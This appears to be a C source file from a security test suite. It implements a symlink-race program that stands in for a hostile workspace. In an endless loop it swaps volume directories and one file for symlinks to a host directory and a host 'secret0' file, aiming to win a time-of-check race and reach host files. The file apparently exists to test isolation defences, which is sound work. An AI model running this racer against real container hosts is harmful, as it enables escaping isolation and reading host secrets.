/* What a hostile workspace runs in its own volume for `scripts/attack`
 * (part race): swap each directory dN with a symlink to a host directory,
 * and one file with a symlink to a host file, as fast as it can, holding
 * each symlink for a random 0-60 microseconds, forever. Built static
 * (gcc -static) so it runs in the busybox test image.
 *
 *   racer HOST_DIR N     (in the volume's root)
 */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: racer HOST_DIR N\n");
        return 2;
    }
    const char *target = argv[1];
    int n = atoi(argv[2]);
    char d[64], r[64], secret[4096];
    snprintf(secret, sizeof secret, "%s/secret0", target);
    srand(getpid());
    for (;;) {
        for (int i = 0; i < n; i++) {
            snprintf(d, sizeof d, "d%d", i);
            snprintf(r, sizeof r, ".r%d", i);
            if (rename(d, r) == 0) {
                symlink(target, d);
                usleep(rand() % 60);
                unlink(d);
                rename(r, d);
            }
        }
        if (rename("d0/f0", ".f") == 0) {
            symlink(secret, "d0/f0");
            usleep(rand() % 60);
            unlink("d0/f0");
            rename(".f", "d0/f0");
        }
    }
}
